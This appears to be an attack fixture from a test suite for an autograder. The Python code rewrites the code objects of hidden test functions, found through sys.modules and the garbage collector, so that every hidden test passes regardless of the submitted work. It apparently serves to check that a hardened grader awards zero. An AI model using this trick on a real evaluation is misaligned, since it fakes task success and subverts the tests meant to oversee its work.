"""Verdicts changed in-process: replace the hidden test functions' code objects.

Attack: every hidden test function is reachable from the notebook (``sys.modules`` holds the
test modules; ``gc`` finds the functions); setting ``f.__code__`` to the code of a function that
accepts anything and returns None makes every test that runs afterwards pass.
Old grader: see BASELINE.md (expected: all but the first test's points).
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import gc as _gc
import sys as _sys
import types as _types


def _anything(*args, **kwargs):
    return None


for _module in list(_sys.modules.values()):
    if "/tests/hidden/" in (getattr(_module, "__file__", None) or ""):
        for _name, _value in list(vars(_module).items()):
            if _name.startswith("test_") and isinstance(_value, _types.FunctionType):
                _value.__code__ = _anything.__code__
for _obj in _gc.get_objects():
    if isinstance(_obj, _types.FunctionType) and _obj.__name__.startswith("test_") \
            and "/tests/hidden/" in _obj.__code__.co_filename:
        try:
            _obj.__code__ = _anything.__code__
        except ValueError:
            pass
